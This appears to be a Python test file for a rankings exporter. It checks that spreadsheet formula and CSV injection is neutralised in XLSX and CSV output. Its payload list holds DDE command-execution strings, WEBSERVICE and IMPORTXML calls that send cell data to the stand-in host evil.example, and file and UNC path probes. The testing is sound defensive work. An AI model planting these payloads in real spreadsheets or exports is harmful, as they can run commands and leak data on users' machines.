"""No text of an edition becomes a formula, a link or an error, and none is changed."""

import csv
import re
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from rankings.adapters.csv_cells import FORMULA, guarded, unguarded
from rankings.adapters.xlsx_package import clean
from rankings.scoring.labels import Labels
from rankings.scoring.source import Code
from tests.adapters.edition_samples import COC, Edition, edition
from tests.office import Convert

PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","Click")',
    '=WEBSERVICE("http://evil.example/?"&A1)',
    '=IMPORTXML("http://evil.example","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "=@SUM(1+1)*cmd|' /C calc'!A0",
    "=-1",
    "==1",
    "= 1+1",
    '=A1&"x"',
    "{=1+1}",
    "{=SUM(A1:A9)}",
    "+1+1",
    "+84 24 3936 6633",
    "+cmd|' /C calc'!A0",
    "++1",
    "-1+1",
    "-1",
    "-2+3+cmd|' /C calc'!A0",
    "--1",
    "@SUM(1+1)",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    "'plain",
    "'+84",
    "'",
    "http://evil.example/",
    "https://evil.example/?a=1&b=2",
    "mailto:a@evil.example",
    "file:///etc/passwd",
    "file://server/share",
    "internal:Cover!A1",
    "\\\\server\\share",
    "#N/A",
    "#REF!",
    "#DIV/0!",
    "TRUE",
    "007",
    "1e5",
    "2026-01-02",
    "3/4",
    'a","=1+1","b',
    "a;=1+1;b",
    "</t></si><f>1+1</f>",
    "<![CDATA[=1]]> & &amp; &#61;1",
    "_x0041_ _x003D_1",
    "&P&[File]{0}{states}%s%(x)s",
    "\x00=1\x1b",
    "\ud800=1\uffff",
    "  two  spaces  ",
    "Công ty ក្រុមហ៊ុន ကုမ္ပဏီ 会社",
)
TEXTS = (0, 1, 2, 3, 4, 5, 8, 10)


def poisoned(payload: str) -> Edition:
    """An edition in which every text is the payload."""
    base = edition(COC, 2)
    words = dict.fromkeys(base.code.labels["en"].texts, payload)
    licence = base.agencies[0]["licence"] | {
        "authority": payload,
        "number": payload,
        "state": payload,
    }
    known = {"code": payload, "names": {"vi": payload, "en": payload}, "licence": licence}
    listed = [
        entry | known | {"state": payload, "band": payload} for entry in base.ranking["entries"]
    ]
    parts = [part | known | {"receipt": told(part["receipt"], payload)} for part in base.agencies]
    ranking = {
        "association": {"code": payload, "name": payload, "country": "VN"},
        "cycle": {"slug": payload, "name": payload, "as_of": "2026-06-30"},
        "rubric": {"code": payload, "version": payload},
        "decimals": 1,
        "entries": listed,
    }
    return Edition(Code(base.code.rubric, {"en": Labels("en", words)}), ranking, parts)


def told(receipt: dict[str, Any], payload: str) -> dict[str, Any]:
    """A receipt in which every option that was found is the payload."""
    return receipt | {
        "lines": [
            line | ({"told": [payload], "basis": payload} if line["indicator"] < "2" else {})
            for line in receipt["lines"]
        ]
    }


def rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))[1:]


def test_there_are_enough_payloads() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60


@pytest.fixture(scope="module", params=PAYLOADS)
def payload(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture(scope="module")
def made(payload: str, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    return poisoned(payload).files(tmp_path_factory.mktemp("poisoned"))


def test_every_text_of_the_workbook_stays_a_text(payload: str, made: dict[str, Path]) -> None:
    path = made["ranking.xlsx"]
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist()}
    assert not [name for name in parts if re.search("external|vba|connection|query", name, re.I)]
    for name, xml in parts.items():
        assert not re.search(r"<f[ >/]|<hyperlink|TargetMode|\bt=\"(e|str)\"", xml), name
    book = openpyxl.load_workbook(path)
    found = clean(payload)
    ranking = list(book["Ranking"].iter_rows(min_row=2))
    for row in ranking:
        for at in TEXTS:
            assert (row[at].value, row[at].data_type) == (found, "s")
    criteria = list(book["Criteria"].iter_rows(min_row=2, values_only=True))
    assert {row[0] for row in criteria} == {found}
    assert {(row[3], row[4]) for row in criteria if str(row[1]) < "2"} == {(found, found)}
    assert {row[5] for row in book["Rubric"].values} == {"question", found, None}
    assert {row[2] for row in book["Bands"].values} >= {"label", found}
    assert found in str(book["Cover"]["A1"].value)


def test_every_text_of_the_csv_files_is_guarded(payload: str, made: dict[str, Path]) -> None:
    found = clean(payload)
    for row in rows(made["ranking.csv"]):
        for at in TEXTS:
            assert row[at] == guarded(payload)
            assert not re.match("[=+\\-@\t\r\n＝＋－＠]", row[at])
            assert unguarded(row[at]) == found
    for row in rows(made["criteria.csv"]):
        assert unguarded(row[0]) == found
        assert row[1] > "2" or (unguarded(row[3]), unguarded(row[4])) == (found, found)


@given(st.text() | st.from_regex(FORMULA))
def test_what_is_guarded_can_be_taken_back(text: str) -> None:
    assert unguarded(guarded(text)) == clean(text)
    assert guarded(text)[:1] not in tuple("=+-@\t\r\n＝＋－＠")


def listed() -> Edition:
    """An edition with an agency per payload."""
    base = edition(COC, 1)
    [part], [entry] = base.agencies, base.ranking["entries"]
    each = [
        {
            "code": f"VN-{at:05}",
            "names": {"vi": payload, "en": payload},
            "licence": part["licence"] | {"authority": payload, "number": payload},
        }
        for at, payload in enumerate(PAYLOADS)
    ]
    entries = [entry | one for one in each]
    return Edition(base.code, base.ranking | {"entries": entries}, [part | one for one in each])


def as_shown(text: str) -> str:
    """LibreOffice ends lines within a cell in its own way."""
    return clean(text).replace("\r\n", "\n").replace("\r", "\n")


def test_libreoffice_shows_every_text_of_the_workbook(tmp_path: Path, convert: Convert) -> None:
    path = listed().files(tmp_path)["ranking.xlsx"]
    form = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1"
    shown = rows(convert(path, form).with_name("ranking-Ranking.csv"))
    for at in (1, 2, 3, 4):
        assert [as_shown(row[at]) for row in shown] == [as_shown(one) for one in PAYLOADS]


def test_libreoffice_takes_nothing_in_the_csv_file_for_a_formula(
    tmp_path: Path, convert: Convert
) -> None:
    path = listed().files(tmp_path)["ranking.csv"]
    read = convert(path, "xlsx:Calc MS Excel 2007 XML")
    with zipfile.ZipFile(read) as archive:
        for name in archive.namelist():
            assert not re.search(
                r"<f[ >/]|<hyperlink", archive.read(name).decode("utf-8", "replace")
            )
